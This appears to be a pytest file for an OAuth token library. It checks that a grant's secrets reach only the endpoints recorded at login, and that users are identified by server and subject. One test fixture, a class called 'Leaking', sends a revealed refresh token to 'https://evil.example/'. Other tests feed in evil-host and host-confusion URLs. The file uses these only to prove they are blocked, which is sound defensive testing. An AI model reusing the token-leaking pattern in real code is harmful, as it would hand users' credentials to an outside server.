"""A grant's secrets go where the grant is from, and nowhere else (R17); and whose it is (R18)."""

import pytest
from tokenkit.account import Account
from tokenkit.errors import ProviderChanged
from tokenkit.grants.bound_to import bind, bind_late, changes, check_bound, same_person, within
from tokenkit.oauth2 import OAuth2
from tokenkit.provider import Request

from scripted import ScriptedKit, ScriptedProvider, expire, stored
from world import World, answer, grant

ME = Account("acme", "me")
ACME = OAuth2(
    name="acme",
    title="Acme",
    authorization_endpoint="https://acme.example/authorize",
    token_endpoint="https://acme.example/token",
    revocation_endpoint="https://acme.example/revoke",
    introspection_endpoint="https://acme.example/introspect",
    userinfo_endpoint="https://people.acme.example/me",
    resource_hosts=("https://api.acme.example",),
)
BOUND = bind(grant(), ACME, "client-1")


def changed(**fields: str) -> OAuth2:
    """Acme as a changed plugin says it is."""
    from dataclasses import replace

    return replace(ACME, **fields)


def test_a_grant_records_every_endpoint_that_receives_one_of_its_secrets():
    """R17: userinfo gets the access token, introspection the client secret, too."""
    assert BOUND.endpoints == {
        "identify": "https://people.acme.example/me",
        "introspect": "https://acme.example/introspect",
    }
    assert changes(BOUND, ACME, "client-1") == []


@pytest.mark.parametrize(
    ("field", "power", "what"),
    [
        ("userinfo_endpoint", "identify", "userinfo endpoint"),
        ("introspection_endpoint", "introspect", "introspection endpoint"),
        ("token_endpoint", "refresh", "token endpoint"),
        ("revocation_endpoint", "revoke", "revocation endpoint"),
        ("issuer", "refresh", "issuer"),
    ],
)
def test_an_endpoint_that_is_another_today_is_refused_where_it_is_used(field, power, what):
    """R17: until a new login."""
    today = changed(**{field: "https://acme.example/elsewhere"})
    with pytest.raises(ProviderChanged, match=f"another {what} than acme has today") as caught:
        check_bound(ME, BOUND, today, "client-1", power)
    assert "tokenkit login acme/me" in caught.value.hint
    assert [change.what for change in changes(BOUND, today, "client-1")] == [what]
    check_bound(ME, bind(BOUND, today, "client-1"), today, "client-1", power)


def test_an_endpoint_that_has_come_to_a_plugin_since_is_a_change_too():
    """R17: a grant that recorded no userinfo endpoint gives its token to none."""
    before = bind(grant(), changed(userinfo_endpoint=""), "client-1")
    assert before.endpoints == {"introspect": "https://acme.example/introspect"}
    with pytest.raises(ProviderChanged, match="userinfo endpoint"):
        check_bound(ME, before, ACME, "client-1", "identify")


def test_a_changed_userinfo_endpoint_does_not_stop_a_refresh():
    """R17: each endpoint is compared where it is used, and a refresh does not use this one."""
    check_bound(ME, BOUND, changed(userinfo_endpoint="https://evil.example/me"), "client-1", "refresh")


def test_a_record_without_the_field_is_bound_when_it_is_next_saved_and_then_stays_so():
    """R17: so that an upgrade signs nobody out."""
    old = BOUND.renewed(endpoints=None)
    check_bound(ME, old, ACME, "client-1", "identify")
    bound = bind_late(old, ACME)
    assert bound.endpoints == BOUND.endpoints
    assert bind_late(bound, changed(userinfo_endpoint="https://evil.example/me")) is bound


@pytest.mark.parametrize(
    "url", ["https://acme.example/anything", "https://people.acme.example/x", "https://ACME.example:443/token"]
)
def test_the_recorded_servers_can_be_reached_while_a_secret_is_in_use(url):
    world = World(answer({}))
    within(world.ctx, ME, BOUND, ACME).send(Request("GET", url))
    assert len(world.requests) == 1


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/token",
        "http://acme.example/token",
        "https://acme.example:8443/token",
        "https://acme.example@evil.example/token",
        "https://api.acme.example/me",
        "https://acme.example.evil.example/",
        "nonsense",
    ],
)
def test_no_other_server_can_be_reached_while_a_secret_is_in_use(url):
    """R17: whatever a plugin does with the context that it is given."""
    world = World()
    with pytest.raises(ProviderChanged, match="none of the servers that the grant records"):
        within(world.ctx, ME, BOUND, ACME).send(Request("GET", url, (("Authorization", "Bearer access-old"),)))
    assert world.requests == []


class Leaking(ScriptedProvider):
    """Sends what it is given to a server of its author's."""

    def refresh(self, ctx, client, grant):
        ctx.send(Request.form("https://evil.example/", {"token": grant.refresh_token.reveal()}))

    def revoke(self, ctx, client, grant):
        ctx.send(Request.form("https://evil.example/", {"token": grant.refresh_token.reveal()}))


def test_a_refresh_or_revocation_that_sends_a_secret_to_another_server_sends_nothing(tmp_path):
    """R17: `ScriptedKit` fails the test when anything is sent."""
    kit = ScriptedKit(tmp_path, provider=Leaking())
    kit.me = kit.sign_in()
    expire(kit)
    with pytest.raises(ProviderChanged, match=r"https://evil\.example"):
        kit.token("scripted")
    assert "was not asked" in kit.logout("scripted").note


def test_a_refresh_binds_the_record_of_an_older_version(tmp_path):
    """R17: an upgrade signs nobody out, and what was bound stays so."""
    kit = ScriptedKit(tmp_path)
    kit.me = kit.sign_in()
    kit.scripted.endpoints = {"identify": "https://scripted.example/me"}
    held = kit.records.get(kit.me)
    kit.records.save(kit.me, held.grant.renewed(endpoints=None), replaces=held.version)
    expire(kit)
    kit.token("scripted")
    assert stored(kit).endpoints == {"identify": "https://scripted.example/me"}
    kit.scripted.endpoints = {"identify": "https://evil.example/me"}
    expire(kit)
    kit.token("scripted")
    assert stored(kit).endpoints == {"identify": "https://scripted.example/me"}


def test_a_person_is_known_by_server_and_subject():
    """R18: two servers that both call somebody ``1`` mean two people."""
    here = BOUND.renewed(subject="1")
    assert same_person(here, here.renewed(client_id="another"))
    assert not same_person(here, here.renewed(subject="2"))
    assert not same_person(here, here.renewed(token_endpoint="https://other.example/token"))
    assert not same_person(here.renewed(subject=""), here.renewed(subject=""))


def test_an_issuer_says_which_server_it_is_where_both_grants_name_one():
    """R18: its token endpoint may move; and an issuer that was not named before makes no other person."""
    here = BOUND.renewed(subject="1", issuer="https://acme.example")
    assert same_person(here, here.renewed(token_endpoint="https://acme.example/v2/token"))
    assert not same_person(here, here.renewed(issuer="https://other.example"))
    assert same_person(here, here.renewed(issuer=""))
